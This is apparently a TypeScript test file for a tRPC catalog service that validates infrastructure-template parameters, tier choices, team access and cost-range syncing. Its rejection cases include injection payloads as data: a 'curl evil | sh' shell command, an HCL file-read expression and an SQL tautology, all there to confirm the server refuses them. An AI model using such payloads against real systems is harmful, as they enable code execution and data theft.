import { TRPCError } from "@trpc/server";
import { beforeAll, describe, expect, it } from "vitest";
import type { Database } from "~/db/client";
import { createTestDatabase } from "~/testing/db";
import { callerFor, makeTeam, makeUser } from "~/testing/fixtures";
import { templateYaml, uniqueTemplateName } from "~/testing/templates";

let db: Database;
let developer: Awaited<ReturnType<typeof callerFor>>;
let teamId: string;
let name: string;

type TrpcFailure = TRPCError & { cause?: { fieldErrors?: Record<string, string[]>; field?: string } };

beforeAll(async () => {
  ({ db } = await createTestDatabase());
  const admin = await callerFor(db, (await makeUser(db, { globalRole: "admin" })).id);
  const dev = await makeUser(db);
  teamId = (await makeTeam(db, [{ userId: dev.id, role: "member" }])).id;
  developer = await callerFor(db, dev.id);
  name = uniqueTemplateName("prev");
  const draft = await admin.templateAdmin.createDraft({ yaml: templateYaml(name) });
  await admin.templateAdmin.publish({ versionId: draft.versionId, expectedLockVersion: draft.lockVersion });
});

const preview = (parameters: Record<string, unknown>, tier: "dev" | "staging" | "prod" = "dev") =>
  developer.catalog.preview({ teamId, name, tier, environmentName: "checkout-demo", parameters });

async function refusal(parameters: Record<string, unknown>, tier?: "dev" | "staging" | "prod") {
  const error = (await preview(parameters, tier).catch((e: unknown) => e)) as TrpcFailure;
  expect(error).toBeInstanceOf(TRPCError);
  expect(error.code).toBe("BAD_REQUEST");
  return error;
}

describe("catalog.preview: parameters validated on the server by the form's schema", () => {
  it("plans a request with defaults filled in, tags and integer-cent cost", async () => {
    const result = await preview({ instance_type: "m5.large" });
    expect(result.parameters).toEqual({ instance_type: "m5.large", disk_gb: 20 });
    expect(result.plan.resources.map((r) => r.address)).toEqual(["net", "subnet", "box"]);
    expect(result.plan.resources[2]?.tags).toMatchObject({ tier: "dev", template: name, service: "m5.large" });
    expect(Number.isInteger(result.plan.monthlyCents)).toBe(true);
    expect(result.ttl).toEqual({ default: "3d", max: "14d" });
  });

  it.each([
    ["a wrong type", { disk_gb: "lots" }, "parameters.disk_gb", "must be a number"],
    ["an out-of-range number", { disk_gb: 5000 }, "parameters.disk_gb", "at most 200 GB"],
    ["an unknown key", { root_password: "x" }, "parameters.root_password", "unknown parameter: root_password"],
    ["an oversized string", { owner_note: "n".repeat(41) }, "parameters.owner_note", "at most 40 characters"],
    ["a shell injection", { owner_note: "x; curl evil | sh" }, "parameters.owner_note", "may contain only letters"],
    ["an HCL injection", { owner_note: "${file(x)}" }, "parameters.owner_note", "may contain only letters"],
    ["an SQL injection", { owner_note: "a' OR 1=1 --" }, "parameters.owner_note", "may contain only letters"],
  ])("refuses %s, naming the field", async (_, parameters, field, message) => {
    const error = await refusal(parameters);
    expect(error.cause?.fieldErrors?.[field]?.[0]).toContain(message);
    expect(error.message).toContain(field.slice("parameters.".length));
  });

  it("refuses a tier the template does not offer", async () => {
    const error = await refusal({}, "staging");
    expect(error.cause?.field).toBe("tier");
    expect(error.message).toContain("not offered for the staging tier; it offers dev, prod");
  });

  it("answers a team the caller is not in like an unknown one, without revealing the template", async () => {
    const otherTeam = await makeTeam(db);
    await expect(developer.catalog.preview({ teamId: otherTeam.id, name, tier: "dev", environmentName: "x1", parameters: {} })).rejects.toMatchObject(
      {
        code: "NOT_FOUND",
        message: "Team was not found.",
      },
    );
  });
});

describe("catalog.list: one row per template from stored summaries", () => {
  it("shows the cost range stored at sync, and the sync stores this release's range when it moved", async () => {
    const { eq } = await import("drizzle-orm");
    const { templates, templateVersions } = await import("~/db/schema");
    const { refreshCostRanges } = await import("./template-sync");
    const { estimateCostRange } = await import("~/server/templates/cost-range");
    const [row] = await db
      .select({ id: templateVersions.id, document: templateVersions.document })
      .from(templateVersions)
      .innerJoin(templates, eq(templates.id, templateVersions.templateId))
      .where(eq(templates.name, name));
    const expected = estimateCostRange(row!.document as never);
    const card = async () => (await developer.catalog.list()).find((t) => t.name === name)!;
    expect(await card()).toMatchObject(expected);
    expect(await card()).toMatchObject({ title: expect.any(String), resourceCount: 3, engine: "sim" });

    // A range stored by an older release (other prices): the catalog shows what is stored, no work per view…
    await db.update(templateVersions).set({ minMonthlyCents: 1, maxMonthlyCents: 2, defaultMonthlyCents: 1 }).where(eq(templateVersions.id, row!.id));
    expect(await card()).toMatchObject({ minMonthlyCents: 1, maxMonthlyCents: 2 });
    // …and the sync at start stores this release's range.
    expect(await refreshCostRanges(db)).toBeGreaterThanOrEqual(1);
    expect(await card()).toMatchObject(expected);
    expect(await refreshCostRanges(db)).toBe(0);
    // The version itself stays immutable: only the derived range may be refreshed.
    await expect(db.update(templateVersions).set({ yaml: "changed", minMonthlyCents: 3 }).where(eq(templateVersions.id, row!.id))).rejects.toThrow(
      /Failed query/,
    );
  });
});
